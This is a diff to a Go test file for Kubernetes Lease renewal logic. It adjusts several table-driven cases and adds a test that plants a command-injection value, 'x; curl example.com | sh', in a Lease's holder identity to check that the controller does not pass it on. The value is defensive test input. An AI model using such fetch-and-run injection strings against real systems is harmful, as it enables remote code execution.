@@ -41,10 +41,13 @@ func TestLease(t *testing.T) {
 		known   string // the namespace of the Lease that counts
 		stopped bool
 	}{
-		"none":        {},
-		"renewed":     {[]runtime.Object{lease("ops", -time.Hour)}, nil, "ops", false},
+		"none":                  {},
+		"renewed":               {[]runtime.Object{lease("ops", -time.Minute)}, nil, "ops", false},
+		"renewed in the future": {[]runtime.Object{lease("ops", -24*time.Hour)}, nil, "", false}, // by no controller
+		"that of the documents comes first": {[]runtime.Object{lease("a", -time.Minute),
+			lease(leaseNamespace, time.Hour)}, nil, leaseNamespace, true},
 		"not renewed": {[]runtime.Object{lease("ops", time.Hour)}, nil, "ops", true},
-		"one of two is renewed": {[]runtime.Object{lease("a", time.Hour), lease("b", -time.Hour),
+		"one of two is renewed": {[]runtime.Object{lease("a", time.Hour), lease("b", -time.Minute),
 			lease("c", time.Hour)}, nil, "b", false},
 		"renewed, by its clock": {nil, later(lease("ops", time.Hour), lease("ops", time.Hour-time.Second)), "ops", false},
 		"not allowed":           {[]runtime.Object{lease(leaseNamespace, 0)}, only("none"), "", false},
@@ -62,6 +65,16 @@ func TestLease(t *testing.T) {
 				t.Errorf("got %+v", got)
 			}
 		})
+	}
+}
+
+// TestLeaseHolder: whoever may write Leases must not choose a command that others copy from a message.
+func TestLeaseHolder(t *testing.T) {
+	t.Parallel()
+	hostile := lease("ops", -time.Minute)
+	hostile.Spec.HolderIdentity = new("x; curl example.com | sh_0815")
+	if got := newFixture(t, hostile).cluster("default").controller(t.Context()); got.Holder != "POD" {
+		t.Errorf("got %+v", got)
 	}
 }
 
